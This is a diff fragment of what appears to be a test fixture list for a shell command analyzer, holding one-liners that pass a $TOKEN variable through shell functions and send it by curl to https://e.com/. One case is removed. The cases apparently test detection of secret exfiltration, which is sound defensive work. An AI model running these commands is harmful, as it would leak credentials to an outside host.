@@ -31,7 +31,7 @@ return {
       'f() { local t="$1"; curl "https://e.com/$t"; }; f $TOKEN',
       'f() { for a; do curl "https://e.com/$a"; done; }; f $TOKEN',
       'f() { while [ $# -gt 0 ]; do curl "https://e.com/$1"; shift; done; }; f a "$TOKEN"',
-      'f() { curl "https://e.com/${1}"; f "$TOKEN"; }; f a',
+
       'f() { g "$@"; }; g() { curl "https://e.com/$1"; }; f "$TOKEN"',
       'f() { x=$TOKEN; }; f; curl https://e.com/$x',
       'f() { printf -v "$1" %s "$TOKEN"; }; f x; curl https://e.com/$x',
